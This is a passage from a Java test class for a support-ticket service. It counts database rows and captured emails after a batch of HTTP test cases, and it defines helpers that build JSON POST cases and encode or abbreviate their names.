        counts.put("emails to the corpus", Arrays.stream(smtp.getReceivedMessages()).filter(m -> to(m).endsWith(DOMAIN)).count());
        for (String table : List.of("support_ticket", "support_ticket_event", "survey", "kb_article", "outage_subscriber",
                "idempotency_key", "portal_account", "portal_token")) {
            counts.put(table + " rows", jdbc.queryForObject("SELECT COUNT(*) FROM " + table, Long.class));
        }
        counts.put("surveys answered", jdbc.queryForObject("SELECT COUNT(*) FROM survey WHERE status <> 'OPEN'", Long.class));
        counts.put("tickets changed", jdbc.queryForObject("SELECT COUNT(*) FROM support_ticket WHERE status <> 'ASSIGNED'",
                Long.class));
        counts.put("numbers taken", jdbc.queryForObject("SELECT COALESCE(SUM(last_value), 0) FROM business_number", Long.class));
        return counts;
    }

    // ------------------------------------------------------------------------------------------------------ helpers

    Case json(Endpoint e, String name, String path, String body, int expected) {
        return new Case(e.name() + ": " + abbreviate(name), "POST", path, "application/json", bytes(body), e.headers(),
                expected, false);
    }

    static Case jsonCase(String name, String path, String body, List<String> headers, int expected) {
        return new Case(abbreviate(name), "POST", path, "application/json", bytes(body), headers, expected, false);
    }

    static String string(String text) {
        return "\"" + text + "\"";
    }

    static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    static String encode(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    static String abbreviate(String text) {
        String flat = text.replace("\r", "\\r").replace("\n", "\\n");
        return flat.length() > 120 ? flat.substring(0, 120) + "..." : flat;
    }

    static String to(MimeMessage message) {
        try {
            Address[] to = message.getAllRecipients();
            return to == null ? "" : Arrays.stream(to).map(Address::toString).collect(Collectors.joining(","));
        } catch (MessagingException e) {
            return "";
        }
    }
}
